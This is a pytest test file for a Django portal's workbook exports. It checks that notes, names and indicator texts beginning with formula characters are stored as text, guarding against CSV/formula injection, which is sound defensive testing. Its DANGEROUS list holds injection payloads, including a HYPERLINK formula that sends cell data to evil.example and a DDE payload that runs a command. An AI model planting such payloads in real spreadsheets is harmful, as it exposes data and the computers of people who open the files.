"""Formula-safe exports: every workbook the portal writes keeps people's text as text. A name, a
note or an indicator's text that begins with "=", "+", "-", "@", a tab or a carriage return is
stored as a string cell, never as a formula that Excel or LibreOffice would run on opening
(CSV/formula injection)."""

import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from criteria.workbooks import (
    INDICATOR,
    CriteriaSetSheet,
    ItemRow,
    SetMetadata,
    build_criteria_workbook,
)
from evaluation.models import CommitteeDecision
from measurements.models import ListItem, Measurement
from tests.conftest import YEAR
from tests.factories import make_meeting

pytestmark = pytest.mark.django_db

#: What people can type that a spreadsheet would take for a formula or a command.
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def cells(content: bytes) -> list:
    """Every cell of every sheet of a workbook as written (formulas kept as formulas)."""
    workbook = load_workbook(io.BytesIO(content), data_only=False)
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def text_cells(content: bytes, text: str) -> list:
    """The cells that hold `text`, whatever their type (XML reads a carriage return back as a
    line feed, so the visible part is looked for)."""
    visible = text.strip("\t\r")
    return [cell for cell in cells(content) if visible in str(cell.value or "")]


def assert_kept_as_text(content: bytes, text: str) -> None:
    found = text_cells(content, text)
    assert found, f"{text!r} is not in the workbook"
    assert {cell.data_type for cell in found} == {"s"}
    assert not [cell for cell in cells(content) if cell.data_type == "f"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_the_values_workbook_keeps_a_note_as_text(client_for, world, text):
    Measurement.objects.create(
        indicator=world.indicator("1.1.2"), unit=world.city, year=YEAR, note=text
    )
    response = client_for("division").get(
        reverse("measurements:workbook_export", args=[YEAR, "HP"])
    )
    assert_kept_as_text(response.content, text)


@pytest.mark.parametrize("text", DANGEROUS)
def test_the_agency_list_keeps_a_name_as_text(client_for, world, text):
    world.indicators["1.1.2"].list_source = "agency_scores"
    world.indicators["1.1.2"].save()
    entry = Measurement.objects.create(
        indicator=world.indicator("1.1.2"), unit=world.city, year=YEAR, numerator=1, denominator=1
    )
    ListItem.objects.create(measurement=entry, position=1, name=text, score=Decimal(80))
    response = client_for("division").get(
        reverse("measurements:share_list_workbook", args=[YEAR, "HP", "1.1.2"])
    )
    assert_kept_as_text(response.content, text)


@pytest.mark.parametrize("text", DANGEROUS)
def test_the_criteria_set_workbook_keeps_a_text_as_text(text):
    sheet = CriteriaSetSheet(
        SetMetadata("bo-thu", "Bộ thử", "district", "Căn cứ", 2026),
        (
            ItemRow("standard", "1", "Tiêu chuẩn"),
            ItemRow("criterion", "1.1", "Tiêu chí"),
            ItemRow(INDICATOR, "1.1.1", text, text, "document"),
        ),
    )
    assert_kept_as_text(build_criteria_workbook(sheet), text)


@pytest.mark.parametrize("text", DANGEROUS)
def test_the_report_keeps_the_committees_note_as_text(client_for, world, personas, text):
    CommitteeDecision.objects.create(
        unit=world.city,
        year=YEAR,
        meeting=make_meeting(YEAR, personas["committee"]),
        decision="recognized",
        note=text,
        recorded_by=personas["committee"],
    )
    response = client_for("committee").get(reverse("evaluation:report_workbook", args=[YEAR]))
    assert_kept_as_text(response.content, text)
